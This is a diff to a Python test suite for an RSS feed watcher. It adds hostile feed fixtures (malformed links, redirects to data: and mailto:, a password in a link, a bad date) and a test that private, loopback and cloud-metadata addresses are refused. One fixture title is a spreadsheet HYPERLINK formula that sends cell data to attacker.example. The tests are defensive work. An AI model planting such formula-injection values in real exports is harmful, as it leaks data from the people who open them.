@@ -25,15 +25,20 @@ def _page(seed) -> bytes:
             f"<article><h1>{title}</h1>{paragraphs}</article><footer>Contact us</footer></body></html>").encode()
 
 
-def _rss(items: list[tuple[str, str, str]], base: str) -> bytes:
-    """RSS 2.0 with (guid, path, title) items, dated 13 Nov 2023."""
+def _rss(items: list[tuple[str, str, str]], base: str, title: str = "Test Desk", when: str | None = None) -> bytes:
+    """RSS 2.0 with (guid, path, title) items, dated 13 Nov 2023; a path with a scheme is a whole link."""
     import datetime as dt
 
-    when = format_datetime(dt.datetime(2023, 11, 13, 9, 0, tzinfo=dt.timezone.utc))
-    entries = "".join(f"<item><title>{html.escape(t)}</title><link>{base}{p}</link><guid>{g}</guid>"
-                      f"<pubDate>{when}</pubDate></item>" for g, p, t in items)
-    return (f'<?xml version="1.0"?><rss version="2.0"><channel><title>Test Desk</title>'
+    when = when or format_datetime(dt.datetime(2023, 11, 13, 9, 0, tzinfo=dt.timezone.utc))
+    entries = "".join(f"<item><title>{html.escape(t)}</title><link>{html.escape(p if ':' in p else base + p)}</link>"
+                      f"<guid>{html.escape(g)}</guid><pubDate>{when}</pubDate></item>" for g, p, t in items)
+    return (f'<?xml version="1.0"?><rss version="2.0"><channel><title>{html.escape(title)}</title>'
             f"<link>{base}/</link>{entries}</channel></rss>").encode()
+
+
+# A feed's title an outlet would never choose: a spreadsheet formula, then 300 characters in all.
+HOSTILE_TITLE = ('=HYPERLINK("http://attacker.example/?leak="&A1,"Click") Desk of '
+                 + "Very Long Feed Titles " * 12)[:300]
 
 
 class _Site:
@@ -50,7 +55,8 @@ class _Site:
 @contextmanager
 def _serving():
     site = _Site()
-    pages = {"/a.html": _page(SEEDS[2]), "/b.html": _page(SEEDS[3]), "/c.html": _page(SEEDS[0])}
+    pages = {"/a.html": _page(SEEDS[2]), "/b.html": _page(SEEDS[3]), "/c.html": _page(SEEDS[0]),
+             "/d.html": _page(SEEDS[1])}
 
     class Handler(BaseHTTPRequestHandler):
         def log_message(self, *args):
@@ -91,6 +97,23 @@ def _serving():
                     if site.count("/repeat.xml") > 1:
                         items.append(("c", "/c.html", "Attack on Ain al-Asad"))
                     self._send(200, _rss(items, site.base), "application/rss+xml")
+                elif path == "/hostile.xml":  # links that break a client, redirects off the web, a bad date
+                    host = site.base.split("//", 1)[1]
+                    items = [("broken-link", "http://[::1", "A link no URL parser takes"),
+                             ("to-data", "/to-data", "Redirected to a data: URL"),
+                             ("to-mailto", "/to-mailto", "Redirected to a mailto: URL"),
+                             ("with-password", f"http://analyst:s3cret-pw@{host}/d.html", "A link with a password")]
+                    self._send(200, _rss(items, site.base, HOSTILE_TITLE), "application/rss+xml")
+                elif path == "/bad-date.xml":
+                    self._send(200, _rss([("dated", "/c.html", "A date nobody wrote")], site.base,
+                                         when="Mon, 99 Foo 99999 99:99:99 +9999"), "application/rss+xml")
+                elif path == "/many.xml":
+                    self._send(200, _rss([("a", "/a.html", "one"), ("b", "/b.html", "two"), ("c", "/c.html", "three")],
+                                         site.base), "application/rss+xml", ETag='"many"')
+                elif path == "/to-data":
+                    self._send(302, b"", "text/plain", Location="data:text/html,<p>Rockets hit the base.</p>")
+                elif path == "/to-mailto":
+                    self._send(302, b"", "text/plain", Location="mailto:desk@example.org")
                 elif path == "/huge.xml":
                     self._send(200, _rss([("huge", "/huge.html", "A page longer than any article")], site.base),
                                "application/rss+xml")
@@ -220,3 +243,88 @@ def test_every_takes_durations():
     with pytest.raises(ValueError):
         parse_every("ten minutes")
     assert run_sitrep("watch", sys.executable, "--every", "soon").returncode == 2
+
+
+def test_no_feed_or_item_stops_the_watch(tmp_path, postgres_server):
+    """Links no URL parser takes, redirects to data: and mailto:, a malformed date, a password in a
+    link and a 300-character title that starts like a formula: each is that feed's or that item's
+    business; the good feed after them is read in the same round. On PostgreSQL, whose columns
+    are bounded."""
+    db = postgres_server()
+    with _serving() as site:
+        feeds = tmp_path / "feeds.txt"
+        feeds.write_text(f"{site.base}/hostile.xml\n{site.base}/bad-date.xml\n{site.base}/news.xml\n")
+        done = run_sitrep("watch", feeds, "--db", db, "--every", "1s", "--rounds", "3", "--timeout", "2s",
+                          "--allow-private")
+        assert done.returncode == 0, done.stderr
+        assert "Traceback" not in done.stderr and "s3cret-pw" not in done.stderr
+        rounds = [line.split(" round ", 1)[1] for line in done.stderr.splitlines() if " round " in line]
+        assert len(rounds) == 9, done.stderr
+        assert rounds[0] == (f"1 {site.base}/hostile.xml: HTTP 200, 4 items: 1 new article, 0 seen before, "
+                             f"3 pages failed"), done.stderr
+        assert rounds[1].startswith(f"1 {site.base}/bad-date.xml: HTTP 200, 1 items: 1 new article")
+        assert rounds[2].startswith(f"1 {site.base}/news.xml: HTTP 200, 2 items: 2 new articles")
+        items = [line.split("   item ", 1)[1] for line in done.stderr.splitlines() if "   item " in line]
+        assert any(line.startswith("http://[::1: InvalidURL: ") and line.endswith("; will retry") for line in items)
+        assert f"{site.base}/to-data: refused: a redirect off the web, to data:text/html,<p>Rockets hit the " \
+               "base.</p>; will retry" in items
+        assert f"{site.base}/to-mailto: refused: a redirect off the web, to mailto:desk@example.org; will retry" in items
+        assert sum(line.endswith("giving up") for line in items) == 3  # the third round gives up on each
+        assert rounds[6].startswith(f"3 {site.base}/hostile.xml: HTTP 200, 4 items: 0 new articles, 1 seen before, "
+                                    "3 pages failed")
+
+    from sqlalchemy import text
+
+    from sitrep.store import open_store
+
+    store = open_store(db)
+    with store.engine.connect() as conn:
+        stored = conn.execute(text("select a.id, a.url, a.source_file, o.name from articles a "
+                                   "left join outlets o on o.id = a.outlet_id order by a.id")).all()
+        keys = [r[0] for r in conn.execute(text("select item from feed_items"))]
+    store.close()
+    # d.html by its link without the password, c.html whatever its feed's date, a.html and b.html
+    assert [r[0] for r in stored] == [f"{site.base}/{page}" for page in ("a.html", "b.html", "c.html", "d.html")]
+    assert not any("s3cret-pw" in str(cell) for row in stored for cell in row) and "s3cret-pw" not in str(keys)
+    outlets = {r[3] for r in stored}
+    assert HOSTILE_TITLE[:199] + "\u2026" in outlets  # the 300-character title, cut to the column
+
+
+def test_loopback_and_private_addresses_are_refused_without_allow_private(tmp_path):
+    from sitrep.sources.feeds import Fetcher
+
+    with _serving() as site:
+        port = site.base.rsplit(":", 1)[1]
+        feeds = tmp_path / "feeds.txt"
+        feeds.write_text(f"{site.base}/news.xml\n")
+        done = run_sitrep("watch", feeds, "--db", tmp_path / "w.db", "--rounds", "1", "--timeout", "2s")
+        assert done.returncode == 0, done.stderr
+        assert (f"{site.base}/news.xml: failed: ConnectError: refused: 127.0.0.1 is a loopback address "
+                "(sitrep watch --allow-private reaches it); failure 1") in done.stderr
+        assert site.requests == []
+        guarded = Fetcher(2.0)
+        for url, why in ((f"http://localhost:{port}/news.xml", "is a loopback address"),
+                         (f"http://[::ffff:127.0.0.1]:{port}/news.xml", "127.0.0.1 is a loopback address"),
+                         (f"http://0.0.0.0:{port}/", "is an unspecified address"),
+                         ("http://169.254.169.254/latest/meta-data/", "169.254.169.254 is a link-local address"),
+                         ("http://[fe80::1]/", "fe80::1 is a link-local address"),
+                         ("http://10.1.2.3/", "10.1.2.3 is a private address"),
+                         ("http://192.168.0.1/", "192.168.0.1 is a private address")):
+            with pytest.raises(Exception) as refused:
+                guarded.get(url, {}, 1000)
+            assert "refused: " in str(refused.value) and why in str(refused.value), (url, refused.value)
+        guarded.close()
+        assert site.requests == []
+
+
+def test_at_most_max_items_a_round_and_the_rest_wait(watching):
+    site, store, watch, lines = watching
+    watch.max_items = 2
+    url = f"{site.base}/many.xml"
+    assert watch.poll(url) == ("HTTP 200, 3 items: 2 new articles, 0 seen before, 0 pages failed, "
+                               "1 left for the next round")
+    assert watch.poll(url) == "HTTP 200, 3 items: 1 new article, 2 seen before, 0 pages failed"
+    assert watch.poll(url) == "HTTP 200, 3 items: 0 new articles, 3 seen before, 0 pages failed"
+    # the feed's ETag is sent only once nothing waits: a 304 must not hide waiting items
+    assert [inm for p, inm in site.requests if p == "/many.xml"] == [None, None, '"many"']
+    assert store.counts()["articles"] == 3
